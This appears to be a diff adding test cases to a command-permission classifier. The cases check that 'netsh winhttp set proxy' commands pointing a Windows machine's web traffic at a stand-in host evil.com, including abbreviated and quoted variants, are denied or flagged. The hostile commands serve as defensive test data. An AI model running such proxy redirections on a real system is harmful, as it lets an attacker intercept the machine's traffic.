@@ -57,3 +57,21 @@ describe('the service New-WebServiceProxy fetches (was allowed)', () => {
     ["New-WebServiceProxy -Uri 'http://a.com/s?wsdl' -Namespace n", 'allow'],
   ]);
 });
+
+// `netsh winhttp set proxy HOST` sends the machine's WinHTTP traffic through HOST from then on,
+// as `git config http.proxy` does git's: the proxy is a Domain part (netsh takes unique prefixes).
+describe('the proxy netsh winhttp sets (was allowed)', () => {
+  table([
+    ['netsh winhttp set proxy evil.com:80', 'deny'],
+    ['netsh winhttp set proxy proxy-server=evil.com:8080 bypass-list=*.local', 'deny'],
+    ['netsh winhttp set proxy proxy-server="http=a.com:80;https=evil.com:443"', 'deny'],
+    ['netsh winh se prox evil.com', 'deny'],
+    ['netsh.exe winhttp set proxy evil.com', 'deny'],
+    ['netsh winhttp set proxy $p', 'ask'],
+    ["netsh winhttp set advproxy setting-scope=machine settings='{\"Proxy\":\"evil.com:80\"}'", 'ask'],
+    // Precision: another proxy, or no proxy set.
+    ['netsh winhttp set proxy a.com:80', 'allow'],
+    ['netsh winhttp show proxy', 'allow'],
+    ['netsh winhttp reset proxy', 'allow'],
+  ]);
+});
